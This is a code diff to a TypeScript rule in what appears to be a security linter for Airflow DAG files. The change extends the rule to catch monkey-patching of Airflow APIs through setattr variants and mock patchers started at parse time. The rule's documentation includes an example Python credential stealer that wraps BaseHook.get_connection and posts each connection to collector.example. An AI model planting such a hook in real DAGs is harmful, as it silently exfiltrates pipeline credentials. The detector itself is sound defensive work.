@@ -16,7 +16,7 @@ export default defineRule({
     },
     docs: {
       what:
-        'Finds assignments to attributes of Airflow modules and classes — `BaseHook.get_connection = steal`, `Variable.get = …`, `airflow.settings.engine = …`, `setattr(BaseHook, "get_connection", f)`, `sys.modules["airflow.models"].Variable.get = …` — and to Python\'s builtins (`builtins.open = …`) wherever they are; *critical* at parse time (module level), *high* inside a function; *low* for operator class settings (`template_fields`, `template_ext`, `ui_color`…), which Airflow\'s own example DAGs patch (a subclass is the clean way).',
+        'Finds assignments to attributes of Airflow modules and classes — `BaseHook.get_connection = steal`, `Variable.get = …`, `airflow.settings.engine = …`, `setattr(BaseHook, "get_connection", f)` (also `type.__setattr__`/`object.__setattr__`), mock patchers started at parse time (`mock.patch.object(BaseHook, "get_connection", f).start()`, `mock.patch("airflow.models.Variable.get", f).start()`, `with mock.patch(…):` at module level; not `@mock.patch` on tests), `sys.modules["airflow.models"].Variable.get = …` — and to Python\'s builtins (`builtins.open = …`) wherever they are; *critical* at parse time (module level), *high* inside a function; *low* for operator class settings (`template_fields`, `template_ext`, `ui_color`…), which Airflow\'s own example DAGs patch (a subclass is the clean way).',
       why:
         'DAG files are imported into the dag-processor (and, in Airflow 2, the scheduler) process. Replacing an Airflow API there hooks every connection lookup, every Variable read and every task of every DAG parsed by that process afterwards: a credential stealer that no single DAG shows, and that outlives the file that installed it.',
       example: '```python\nfrom airflow.hooks.base import BaseHook\n_orig = BaseHook.get_connection\ndef _spy(conn_id):\n    c = _orig(conn_id)\n    requests.post("https://collector.example", json=c.to_dict())\n    return c\nBaseHook.get_connection = _spy\n```',
@@ -45,14 +45,34 @@ export default defineRule({
       while (a && a.type !== 'assignment' && !/_statement$|^(block|module)$/.test(a.type)) a = a.parent;
       if (a?.type === 'assignment' && a.childForFieldName('left')?.startIndex === m.index) check(ctx, a, `${m[2]}${m[3]}`);
     }
-    for (const { call } of ctx.findCalls(['builtins.setattr'])) {
-      const [obj, name] = callArgs(call).positional;
+    for (const { call, fn } of ctx.findCalls(SETATTR_CALLS)) {
+      const args = callArgs(call).positional;
+      if (fn.endsWith('.patch')) {
+        // mock.patch("airflow.models.Variable.get", spy).start() at parse time: a patcher left running
+        const target = stringValue(args[0]);
+        if (target && isStartedAtParseTime(ctx, call)) check(ctx, call, target);
+        continue;
+      }
+      if (fn.endsWith('.patch.object') && !isStartedAtParseTime(ctx, call)) continue;
+      const [obj, name] = args;
       const base = obj ? ctx.qualifiedName(obj) : null;
       const attr = stringValue(name);
       if (base && attr) check(ctx, call, `${base}.${attr}`);
     }
   },
 });
+
+/** setattr by other names, and mock patchers (reported only when started at parse time). */
+const SETATTR_CALLS = ['builtins.setattr', 'builtins.type.__setattr__', 'builtins.object.__setattr__', 'type.__setattr__', 'object.__setattr__',
+  'unittest.mock.patch', 'unittest.mock.patch.object', 'mock.patch', 'mock.patch.object'];
+
+/** `patcher.start()` on the call itself, or `with mock.patch(…):` at module level. */
+function isStartedAtParseTime(ctx: RuleContext, call: SyntaxNode): boolean {
+  if (!ctx.isParseTime(call)) return false;
+  const p = call.parent;
+  if (p?.type === 'attribute' && p.childForFieldName('attribute')?.text === 'start' && p.parent?.type === 'call') return true;
+  return p?.type === 'with_item' || (p?.type === 'as_pattern' && p.parent?.type === 'with_item');
+}
 
 /** `sys.modules["airflow…"].attr… =`: an Airflow module fetched by name, then patched. */
 const SYS_MODULES_TARGET = /(?<![\w.])sys\s*\.\s*modules\s*\[\s*(['"])(airflow[\w.]*)\1\s*\]((?:\.[A-Za-z_]\w*)+)[ \t]*=(?!=)/g;
